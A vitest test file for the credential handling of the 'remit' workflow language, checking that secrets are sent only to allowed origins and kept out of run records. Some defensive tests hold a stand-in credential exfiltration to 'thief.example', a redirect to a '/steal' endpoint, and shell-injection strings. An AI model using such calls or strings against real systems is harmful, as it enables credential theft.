/** Credentials of stages: what is sent where, what is refused, what waits (CRD1–CRD4, CSO1–CSO3, CEX1, CEX2, IDN1). */
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Json } from "@remit/language";
import { expect, test } from "vitest";
import { openLedger } from "../../src/run/open.ts";
import type { Performer } from "../../src/run/host.ts";
import { openSqlite } from "../../src/ledger/sqlite.ts";
import { type CredentialSource, CredentialError } from "../../src/credential/source.ts";
import { wordsOf } from "../../src/credential/exec.ts";
import { startFakeProvider } from "../model/fake-provider.ts";
import { cache } from "../../src/wrap/wrappers.ts";
import { echoing, room, serve } from "./room.ts";

const secret = (): string => `s3cret-${randomBytes(9).toString("hex")}`;

test("env, file and exec: the header is sent, and its value is in no record of the run", async () => {
    await using here = room();
    await using server = await echoing();
    const [env, file, exec] = [secret(), secret(), secret()];
    here.env.MY_KEY = env;
    here.write("key.txt", `${file}\n`, 0o600);
    here.write("key.mjs", `console.log(${JSON.stringify(exec)})`);
    const at = (credential: string): string => `fetch "${server.origin}/" with { credential: ${credential} }`;
    const source = `memory static ( ${at('env("MY_KEY")')} <*> ${at('file("key.txt")')} <*> ${at('exec("node key.mjs")')} <*> fetch "${server.origin}/" )`;
    const { result, record } = await here.run(source, { trust: true });
    expect(server.seen.map((one) => one.authorization).sort()).toEqual([`Bearer ${env}`, `Bearer ${file}`, `Bearer ${exec}`, null].sort());
    expect(result.value).toEqual([
        "you sent Bearer [secret env:MY_KEY]",
        "you sent Bearer [secret file:key.txt]",
        "you sent Bearer [secret exec:node key.mjs]",
        "you sent nothing",
    ]);
    for (const value of [env, file, exec]) expect(record).not.toContain(value);
});

test("a value that says its scheme is sent as it is, and what the call itself says comes first", async () => {
    await using here = room();
    await using server = await echoing();
    here.env.LOGIN = `Basic ${Buffer.from("alice:open-sesame").toString("base64")}`;
    const source = `import tool Api from "${server.origin}"
        func own() { Api.get({ url: "/own", headers: { authorization: "Own words" } }).status }
        memory static ( ( echo "/" >=> Api.get with { credential: env("LOGIN") } ) <*> own with { credential: env("LOGIN") } )`;
    const { result } = await here.run(source);
    expect(result.failure).toBeUndefined();
    expect(server.seen.map((one) => [one.url, one.authorization]).sort()).toEqual([
        ["/", here.env.LOGIN],
        ["/own", "Own words"],
    ]);
    await using strict = await serve((_, response) => void response.writeHead(401).end());
    const refused = await here.run(`import tool Api from "${strict.origin}"
        func own() { Api.get({ url: "/", headers: { authorization: "Own words" } }).status }
        memory static ( own with { credential: env("LOGIN") } )`);
    expect([refused.result.value, strict.seen.length]).toEqual([401, 1]);
});

test("a value that is too short to be told from other text is kept out as the header that it makes", async () => {
    await using here = room();
    await using server = await echoing();
    here.env.PIN = "1234";
    const { result, record } = await here.run(`memory static ( fetch "${server.origin}/" with { credential: env("PIN") } )`);
    expect(server.seen[0]?.authorization).toBe("Bearer 1234");
    expect(result.value).toBe("you sent [secret env:PIN]");
    expect(record).not.toContain("Bearer 1234");
});

test("attack: a redirect to another origin takes no credential along, of http tools", async () => {
    await using here = room();
    await using thief = await echoing();
    await using server = await serve((_, response) => void response.writeHead(302, { location: `${thief.origin}/steal` }).end());
    here.env.MY_KEY = secret();
    const { result } = await here.run(`memory static ( fetch "${server.origin}/" with { credential: env("MY_KEY") } )`);
    expect(server.seen[0]?.authorization).toBe(`Bearer ${here.env.MY_KEY}`);
    expect(thief.seen).toEqual([]);
    expect(result.failure).toMatchObject({ kind: "denied", message: expect.stringContaining("redirected to another origin") });
});

test("attack: an address that data chose gets no credential, nor does an origin that the program names without an entry", async () => {
    await using here = room();
    await using server = await echoing();
    here.env.MY_KEY = secret();
    here.write("address.txt", `${server.origin}/`);
    const chosen = await here.run('memory static ( read "address.txt" >=> fetch with { credential: env("MY_KEY") } )', { trust: true });
    expect(server.seen).toEqual([]);
    expect(chosen.result.failure?.kind).toBe("denied");
    // The address that stands in for a stranger's: no request leaves, so it need not be there.
    const named = await here.run('memory static (\n    fetch "https://thief.example/" with { credential: env("MY_KEY") }\n)');
    expect(named.result.failure).toMatchObject({
        kind: "denied",
        message: expect.stringContaining("the credential env:MY_KEY may not be sent to https://thief.example"),
        hint: expect.stringContaining('"secrets": {"env:MY_KEY": ["https://thief.example"]}'),
        site: { file: "main.remit", line: 2 },
    });
    expect(chosen.record + named.record).not.toContain(here.env.MY_KEY);
});

test("CSO1: an entry of a trusted configuration is where a credential goes; other origins get nothing", async () => {
    await using here = room();
    await using server = await echoing();
    await using other = await echoing();
    here.env.MY_KEY = secret();
    here.write(
        "remit.json",
        JSON.stringify({ secrets: { "env:MY_KEY": [server.origin] }, http: { private: [server.origin, other.origin] } }),
    );
    here.write("address.txt", `${server.origin}/`);
    const source = `memory static ( ( read "address.txt" >=> fetch with { credential: env("MY_KEY") } ) <*> fetch "${other.origin}/" with { credential: env("MY_KEY") } )`;
    await here.run(source, { trust: true });
    expect(server.seen[0]?.authorization).toBe(`Bearer ${here.env.MY_KEY}`);
    expect(other.seen[0]?.authorization).toBeNull();
});

test("CSO3: a command runs only where the project is trusted, and the configuration that names it need not be there then", async () => {
    await using here = room();
    await using server = await echoing();
    here.write("key.mjs", 'import { writeFileSync } from "node:fs"; writeFileSync("ran", ""); console.log("s3cret-value")');
    const source = `memory static ( fetch "${server.origin}/" with { credential: exec("node key.mjs") } )`;
    const refused = await here.run(source);
    expect(refused.result.failure).toMatchObject({ kind: "denied", message: expect.stringContaining("exec:node key.mjs may not be sent") });
    here.write("remit.json", JSON.stringify({ secrets: { "exec:node key.mjs": [server.origin] } }));
    const untrusted = await here.run(source);
    expect(untrusted.result.failure).toMatchObject({
        message: expect.stringContaining("not trusted"),
        hint: expect.stringContaining("remit trust"),
    });
    expect(server.seen).toEqual([]);
    await here.run(source, { trust: true });
    expect(server.seen[0]?.authorization).toBe("Bearer s3cret-value");
});

test.each([
    ["process.exit(3)", "ended with code 3"],
    ['console.error("t0ken-in-the-error-output"); process.exit(1)', "ended with code 1"],
    ["", "printed nothing"],
    ['process.stdout.write("x".repeat(70_000)); setInterval(() => {}, 1000)', "printed more than 65536 bytes"],
])("CEX1, CEX2: a command that gives nothing leaves the run waiting: %s", async (code, message) => {
    await using here = room();
    await using server = await echoing();
    here.write("key.mjs", code);
    const { result, record } = await here.run(`memory static ( fetch "${server.origin}/" with { credential: exec("node key.mjs") } )`, {
        trust: true,
    });
    expect(result).toMatchObject({ status: "waiting", failure: { kind: "waiting", message: expect.stringContaining(message) } });
    expect(record).not.toContain("t0ken");
    expect(server.seen).toEqual([]);
});

test("CSO4: a fan-out runs the command once; a value that a server refused is asked for again, once for all", async () => {
    await using here = room();
    let good = "value-of-run-1";
    await using server = await serve((request, response) => {
        response.statusCode = request.headers.authorization === `Bearer ${good}` ? 200 : 401;
        response.end("answered");
    });
    here.write(
        "key.mjs",
        'import { appendFileSync, readFileSync } from "node:fs"; appendFileSync("runs", "x"); console.log(`value-of-run-${readFileSync("runs").length}`)',
    );
    const stage = `fetch "${server.origin}/" with { credential: exec("node key.mjs") }`;
    const wide = `memory static ( ( ${Array.from({ length: 12 }, () => stage).join(" <*> ")} ) >=> merge )`;
    expect((await here.run(wide, { trust: true })).result.status).toBe("done");
    expect(readFileSync(join(here.folder, "project", "runs"), "utf8")).toBe("x");
    good = "value-of-run-3";
    expect((await here.run(wide, { trust: true })).result.status).toBe("done");
    expect(readFileSync(join(here.folder, "project", "runs"), "utf8")).toBe("xxx");
});

test("words of a command: quotes keep spaces, and mean nothing else", () => {
    expect(wordsOf(`op read 'op://a b/c' "d 'e'" f"g h"i`)).toEqual(["op", "read", "op://a b/c", "d 'e'", "fg hi"]);
    expect(wordsOf("a 'b")).toBeNull();
    expect(wordsOf("echo $(id) `id` ; id")).toEqual(["echo", "$(id)", "`id`", ";", "id"]);
});

test("a file that others may read is refused with what to do; one that is not there is waited for", async () => {
    await using here = room();
    await using server = await echoing();
    const source = `memory static ( fetch "${server.origin}/" with { credential: file("key.txt") } )`;
    expect((await here.run(source)).result).toMatchObject({ status: "waiting", failure: { hint: expect.stringContaining("chmod 600") } });
    here.write("key.txt", "some-secret-value", 0o644);
    expect((await here.run(source)).result.failure).toMatchObject({ kind: "denied", message: expect.stringContaining("chmod 600 it") });
    expect(server.seen).toEqual([]);
});

test("a credential that is missing pauses the run where it stands; the run goes on once it is there, and repeats nothing", async () => {
    await using here = room();
    await using server = await echoing();
    const source = `memory static (
    ( fetch "${server.origin}/before" <*> fetch "${server.origin}/secured" with { credential: env("LATE_KEY") } ) >=> merge
)`;
    const path = join(here.folder, "ledger.db");
    const store = openSqlite(path, { config: join(here.folder, "config") });
    const { result } = await here.run(source, { ledger: store });
    expect(result).toMatchObject({
        status: "waiting",
        missing: { hint: "set LATE_KEY in the environment" },
        failure: {
            kind: "waiting",
            message: 'the run waits: the credential env("LATE_KEY") is missing: the environment has no LATE_KEY',
            site: { file: "main.remit" },
            hint: `set LATE_KEY in the environment; then remit resume ${result.run} goes on`,
        },
    });
    const ledger = await openLedger(store);
    const again = await (await ledger.resume<Json>(result.run, { env: here.env })).result;
    expect(again).toMatchObject({ status: "waiting", missing: { hint: "set LATE_KEY in the environment" } });
    const value = secret();
    const handle = await ledger.resume<Json>(result.run, { env: { ...here.env, LATE_KEY: value } });
    expect(await handle.value).toContain("[secret env:LATE_KEY]");
    expect(server.seen.map((one) => [one.url, one.authorization])).toEqual([
        ["/before", null],
        ["/secured", `Bearer ${value}`],
    ]);
    let lines = "";
    for await (const line of ledger.export(result.run)) lines += line;
    const told: Json[] = [];
    for await (const { kind, data } of ledger.events(result.run)) if (kind === "input.requested") told.push(data);
    const missing = {
        name: 'the credential env("LATE_KEY") is missing: the environment has no LATE_KEY',
        description: "set LATE_KEY in the environment",
        effect: "tool",
        host: true,
    };
    expect(told).toEqual([missing, missing]);
    expect(await ledger.replay(result.run)).toMatchObject({ equal: true });
    expect(lines).not.toContain(value);
    expect((await ledger.verify(result.run)).ok).toBe(true);
    await store.close();
});

test("CRD3: a 401 is told with the credential, and a source that has another one is asked once more", async () => {
    await using here = room();
    await using server = await serve((request, response) => {
        response.statusCode = request.headers.authorization === "Bearer the-second-value" ? 200 : 401;
        response.end("answered");
    });
    here.env.MY_KEY = "the-first-value";
    const source = `memory static (\n fetch "${server.origin}/" with { credential: env("MY_KEY") } )`;
    const once = await here.run(source);
    expect(once.result.failure).toMatchObject({
        kind: "tool",
        message: expect.stringContaining(`${server.origin} does not accept the credential env("MY_KEY") (HTTP 401)`),
        site: { line: 2 },
        hint: "look at its value, and at what it is allowed to do",
    });
    expect(server.seen.length).toBe(1);
    const asked: (string | undefined)[] = [];
    const env: CredentialSource = ({ refused }) => {
        asked.push(refused);
        return { kind: "given", value: refused === undefined ? "the-first-value" : "the-second-value" };
    };
    expect((await here.run(source, { credentials: { env } })).result.value).toBe("answered");
    expect(asked).toEqual([undefined, "the-first-value"]);
    expect(server.seen.length).toBe(3);
    const stubborn: CredentialSource = () => ({ kind: "given", value: `value-${server.seen.length}` });
    expect((await here.run(source, { credentials: { env: stubborn } })).result.failure?.message).toContain("HTTP 401");
    expect(server.seen.length).toBe(5);
});

test("CRD4: a source of the caller's own hears the stage's identity, else the run's", async () => {
    await using here = room();
    await using server = await echoing();
    const heard: (string | null)[] = [];
    const credentials = {
        secret: (({ arg, as, to }) => {
            heard.push(`${arg} ${as} ${to.origin === server.origin}`);
            return { kind: "given", value: `value-of-${as}` };
        }) satisfies CredentialSource,
    };
    const source = `memory static ( fetch "${server.origin}/" with { credential: secret("crm"), as: "user:bob" } >=> echo "x" )
        memory static ( fetch "${server.origin}/" with { credential: secret("crm") } )`;
    await here.run(source, { credentials, as: "user:alice" });
    expect(heard).toEqual(["crm user:bob true", "crm user:alice true"]);
    const broken: CredentialSource = () => {
        throw new CredentialError("unreachable", "the vault does not answer", "look at the vault");
    };
    const { result } = await here.run(source, { credentials: { secret: broken } });
    expect(result.failure).toMatchObject({ kind: "unreachable", hint: "look at the vault" });
});

test("what a wrapper remembers of one identity is not given to another", async () => {
    await using here = room();
    await using server = await echoing();
    const secret: CredentialSource = ({ as }) => ({ kind: "given", value: `the-value-of-${as}` });
    const options = { credentials: { secret }, wrap: [cache({ ttl: 60_000 })] };
    const source = `memory static ( fetch "${server.origin}/" with { credential: secret("crm") } )`;
    for (const as of ["user:alice", "user:alice", "user:bob"]) await here.run(source, { ...options, as });
    expect(server.seen.map((one) => one.authorization)).toEqual(["Bearer the-value-of-user:alice", "Bearer the-value-of-user:bob"]);
});

test("the credential of a stage is the key of its models, and no other stage's", async () => {
    await using here = room();
    await using provider = await startFakeProvider();
    provider.script({ text: "one" }, { text: "two" }, { status: 401, message: "no" });
    here.env.TEAM_KEY = secret();
    const source = `import llm Model from "${provider.url}/v1#m"
        memory static ( ask "a" with { credential: env("TEAM_KEY") } >=> ask "b" )`;
    const { result, record } = await here.run(source);
    expect(result.value).toBe("two");
    const turns = provider.requests.filter(({ method }) => method === "POST");
    expect(turns.map((one) => one.headers.authorization)).toEqual([`Bearer ${here.env.TEAM_KEY}`, undefined]);
    expect(record).not.toContain(here.env.TEAM_KEY);
    const refused = await here.run(source);
    expect(refused.result.failure).toMatchObject({
        kind: "model",
        message: expect.stringContaining('does not accept the credential env("TEAM_KEY")'),
    });
    delete here.env.TEAM_KEY;
    expect((await here.run(source)).result).toMatchObject({ status: "waiting" });
});

test("IDN1: a credential that a user delegates is refused before anything begins, where no identity is named", async () => {
    await using here = room();
    await using server = await echoing();
    const source = `memory static ( fetch "${server.origin}/first" )
memory static (
    echo "x" >=> ( echo "y" <*> fetch "${server.origin}/" with { credential: oauth("github") } )
)`;
    await expect(here.run(source)).rejects.toMatchObject({
        failure: { kind: "denied", site: { file: "main.remit", line: 3, column: 33 }, hint: expect.stringContaining("--as user:NAME") },
    });
    await expect(here.run('memory static ( echo "x" with { as: "no such: name" } )')).rejects.toMatchObject({ failure: { kind: "value" } });
    expect(server.seen).toEqual([]);
});

test("EF3: what an agent does with its own hands in a stage is sent with the credential; one that is missing is an answer to the agent", async () => {
    await using here = room();
    await using server = await echoing();
    const source = `import tool Api from "${server.origin}"
import agent Fixer from "acp:anything" { remit { may Api.get } }
func ask(x) { Fixer.send(x) }
memory static ( echo "go" >=> ask with { credential: env("MY_KEY") } )`;
    const agent: Performer = async (_, io) => {
        const used = await io.use?.({ tool: "Api", method: "get", args: [{ url: "/" }] });
        const text = used?.ok === true ? (used.value as { body: string }).body : JSON.stringify(used?.failure);
        const reply = { text, stop: "end_turn", entries: [], confinement: "remote", spent: { steps: 1, calls: 0, ms: 0 } };
        return { ok: true, value: reply as unknown as Json, origins: ["agent:Fixer"] };
    };
    const without = await here.run(source, { performers: { agent } });
    expect(JSON.parse(without.result.value as string)).toMatchObject({
        kind: "denied",
        message: expect.stringContaining('the credential env("MY_KEY") is missing'),
        hint: "set MY_KEY in the environment",
    });
    here.env.MY_KEY = secret();
    const { result, record } = await here.run(source, { performers: { agent } });
    expect(result.value).toBe("you sent Bearer [secret env:MY_KEY]");
    expect(record).not.toContain(here.env.MY_KEY);
});
